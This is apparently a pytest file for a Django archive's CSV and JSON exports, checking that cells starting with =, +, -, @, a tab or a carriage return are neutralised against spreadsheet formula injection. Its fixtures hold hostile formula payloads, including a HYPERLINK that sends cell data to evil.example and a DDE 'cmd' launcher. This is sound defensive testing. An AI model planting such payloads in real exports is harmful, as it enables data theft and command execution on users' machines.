"""Issue 19 #8: no CSV the archive writes lets a cell become a spreadsheet formula.
Text that starts with =, +, -, @, a tab or a carriage return gets a leading
apostrophe (shown as text, not run); numbers stay numbers, a negative amount too;
JSON stays exact."""

import csv
import io
import json

import pytest
from django.core.cache import cache

from letters.exports import Column, cell, csv_lines
from tests.factories import make_budget_line, make_letter, make_mission, make_recommendation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
TRIGGERS = ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def fresh_rate_limit():
    cache.clear()


@pytest.mark.parametrize("text", TRIGGERS + [FORMULA])
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [(-5, "-5"), (2019, "2019"), ("plain", "plain"), (None, ""), (True, "ja")])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert cell(value) == written


def test_a_number_column_keeps_negative_numbers_and_neutralises_anything_else():
    """The archive stores no negative amount (a CHECK constraint), but a number column
    writes a negative number as the number it is."""
    assert cell("-5.00", numeric=True) == "-5.00"
    assert cell("-2+3", numeric=True) == "'-2+3"


def test_lists_are_neutralised_as_one_cell():
    assert cell(["=1+1", "gewoon"]) == "'=1+1; gewoon"


def _rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def hostile_archive():
    mission = make_mission("minusma")
    mission.name = "@SUM(A1:A9)"
    mission.save()
    letter = make_letter(number=1, title=FORMULA)
    make_budget_line(letter, "30000000", instrument="BIV", year_from=2019, purpose="+1+1", mission=mission)
    make_recommendation(letter, "1", text="-2+3+cmd|' /C calc'!A0", response="adopted")
    return letter


@pytest.mark.parametrize(
    "url",
    [
        "/brieven/export.csv",
        "/missies/export.csv",
        "/aanbevelingen/export.csv",
        "/begroting/export.csv",
        "/begroting/?format=csv",
    ],
)
def test_no_download_holds_a_cell_that_starts_a_formula(client, hostile_archive, url):
    rows = _rows(client, url)
    assert len(rows) >= 2
    for row in rows:
        for value in row:
            if value[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"{url}: {value!r}")
            if value.startswith("-"):  # only as a number
                float(value)


@pytest.mark.parametrize("url", ["/begroting/export.csv", "/begroting/?format=csv"])
def test_amounts_stay_numbers_and_text_is_neutralised(client, hostile_archive, url):
    rows = _rows(client, url)
    header, line = rows[0], rows[1]
    assert line[header.index("Bedrag (euro)")] == "30000000.00"
    assert line[header.index("Doel")] == "'+1+1"
    assert line[header.index("Titel van de brief")] == "'" + FORMULA


def test_both_budget_downloads_are_the_same(client, hostile_archive):
    assert _rows(client, "/begroting/export.csv") == _rows(client, "/begroting/?format=csv")


def test_json_stays_exact(client, hostile_archive):
    response = client.get("/brieven/export.json")
    [item] = json.loads(b"".join(response.streaming_content))
    assert item["title"] == FORMULA


def test_csv_lines_is_the_one_writer():
    columns = [Column("Titel", lambda d: d["title"]), Column("Bedrag", lambda d: d["amount"], numeric=True)]
    text = "".join(csv_lines([{"title": "=1", "amount": "-1.50"}], columns))
    assert list(csv.reader(io.StringIO(text))) == [["Titel", "Bedrag"], ["'=1", "-1.50"]]
